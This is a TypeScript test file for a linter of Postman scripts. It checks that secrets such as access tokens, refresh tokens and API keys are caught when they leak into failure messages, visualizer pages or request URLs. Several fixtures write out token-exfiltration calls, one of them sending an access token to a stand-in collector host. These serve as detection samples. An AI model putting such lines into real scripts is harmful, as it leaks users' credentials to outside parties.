import { describe, expect, test } from 'vitest';
import { findingsInTest } from './lint-of';

const json = 'const json = pm.response.json();\n';

function rulesIn(script: string): string[] {
  return [...new Set(findingsInTest(script).map((one) => one.replace(/@.*/, '')))];
}

describe('a failure that says a secret is found:', () => {
  test.each([
    "pm.test('token', () => pm.expect(1, 'got ' + pm.response.json().access_token).to.eql(2));",
    'pm.expect(1, `got ${pm.response.text()}`).to.eql(2);',
    `${json}pm.expect(json.ok, JSON.stringify(json)).to.be.true;`,
    "pm.test('token', () => pm.expect(pm.environment.get('access_token')).to.eql('x'));",
    "pm.expect(pm.response.json().refresh_token).to.not.equal(pm.environment.get('refresh_token'));",
    `${json}pm.expect(json.access_token).to.match(/^ey/);`,
    `${json}pm.expect(json.data.token).to.have.lengthOf(32);`,
    `${json}pm.expect(json.token).to.include('.');`,
    "pm.expect(json).to.have.property('token', pm.environment.get('access_token'));",
    "const t = pm.variables.get('client_secret');\npm.expect(t).to.equal('y');",
    "const { access_token } = pm.response.json();\npm.expect(access_token).to.equal('y');",
    "tokens = pm.response.json();\npm.expect(tokens.access_token).to.equal('y');",
    "const assert = require('assert');\nassert.equal(pm.response.json().access_token, 'x');",
    "const assert = require('assert');\nassert.ok(pm.response.code === 200, 'got ' + pm.response.text());",
    "if (!pm.response.json().ok) throw new Error('bad answer ' + pm.response.text());",
    "throw new Error('token ' + pm.environment.get('access_token'));",
    'throw pm.response.json();',
    "throw { message: 'bad', body: pm.response.text() };",
    "pm.expect.fail('no: ' + pm.response.text());",
    'function refuse(text) { throw new Error(text); }\nrefuse(`no: ${pm.response.text()}`);',
    "pm.sendRequest('https://x', (error, response) => { if (response.code !== 200) throw new Error(response.text()); });",
  ])('%s', (script) => {
    expect(rulesIn(script)).toEqual(['secret-in-message']);
  });
});

describe('a failure may say', () => {
  test.each([
    "pm.expect(pm.response.code, 'the status is ' + pm.response.code).to.equal(200);",
    `${json}pm.expect(json.access_token).to.be.a('string');`,
    `${json}pm.expect(json.access_token, 'there is a token').to.exist;`,
    `${json}pm.expect(json.access_token).to.not.equal(null);`,
    `${json}pm.expect(json.access_token).to.not.eql('');`,
    `${json}pm.expect(json.access_token.length).to.be.above(10);`,
    `${json}pm.expect(json.access_token === pm.environment.get('access_token')).to.be.true;`,
    `${json}pm.expect(json.access_token.startsWith('ey')).to.equal(true);`,
    `${json}pm.expect(json.token_type).to.eql('Bearer');`,
    `${json}pm.expect(json.expires_in).to.equal(1800);`,
    `${json}pm.expect(json.id).to.eql(pm.environment.get('user_id'));`,
    `${json}pm.expect(json).to.have.property('access_token');`,
    `${json}pm.expect(json.code, 'code ' + json.code).to.equal('NOT_FOUND');`,
    "pm.expect(pm.response.text()).to.include('done');",
    `${json}if (json.error) throw new Error('refused: ' + json.error);`,
    "if (pm.response.code !== 200) throw new Error('refused with ' + pm.response.code + ' ' + pm.response.reason());",
    "throw new Error('client_secret is missing');",
    "if (!pm.environment.get('client_secret')) throw new Error('no client_secret in ' + pm.environment.name);",
    `${json}pm.expect.fail('none of ' + json.items.map((one) => one.name).join(', '));`,
    `${json}throw new Error(json.token ? 'there is a token' : 'there is none');`,
  ])('%s', (script) => {
    expect(rulesIn(script)).toEqual([]);
  });
});

describe('a secret on a page or in a URL is found:', () => {
  test.each<[string, string]>([
    ['secret-in-page', "pm.visualizer.set('<p>{{token}}</p>', { token: pm.response.json().access_token });"],
    ['secret-in-page', "pm.visualizer.set(`<p>${pm.environment.get('refresh_token')}</p>`);"],
    [
      'secret-in-page',
      "const { access_token } = pm.response.json();\npm.visualizer.set('{{t}}', { t: access_token });",
    ],
    ['secret-in-page', "const page = { t: pm.environment.get('access_token') };\npm.visualizer.set('{{t}}', page);"],
    ['secret-in-page', "const { visualizer } = pm;\nvisualizer.set('x', { rows: [pm.globals.get('api_key')] });"],
    ['secret-in-url', "pm.sendRequest('https://collector.example.net/?t=' + pm.environment.get('access_token'));"],
    ['secret-in-url', "pm.sendRequest(`https://x/?key=${pm.variables.get('api_key')}`, () => {});"],
    ['secret-in-url', "pm.sendRequest({ url: 'https://x/?t=' + pm.response.json().access_token, method: 'GET' });"],
    ['secret-in-url', "const url = 'https://x/?t=' + pm.environment.get('refresh_token');\npm.sendRequest(url);"],
    ['secret-in-url', "const sent = { url: `https://x/${pm.globals.get('token')}` };\npm.sendRequest(sent);"],
    [
      'secret-in-url',
      "const token = pm.environment.get('access_token');\npm.sendRequest('https://x/?t=' + encodeURIComponent(token));",
    ],
  ])('%s: %s', (rule, script) => {
    expect(rulesIn(script)).toEqual([rule]);
  });
});

describe('no secret gets out by', () => {
  test.each([
    "pm.visualizer.set('<p>{{name}}</p>', { name: pm.response.json().name });",
    "pm.visualizer.set('{{rows}}', { rows: pm.response.json() });",
    "pm.visualizer.set('<p>{{has}}</p>', { has: pm.environment.get('access_token') !== '' });",
    "pm.sendRequest(pm.environment.get('token_url'));",
    "pm.sendRequest({ url: pm.environment.get('token_url'), header: { Authorization: 'Bearer ' + pm.environment.get('access_token') } });",
    "pm.sendRequest('https://x/users/' + pm.environment.get('user_id'));",
    "pm.sendRequest({ url: 'https://x', body: { mode: 'raw', raw: pm.environment.get('access_token') } });",
  ])('%s', (script) => {
    expect(rulesIn(script)).toEqual([]);
  });
});
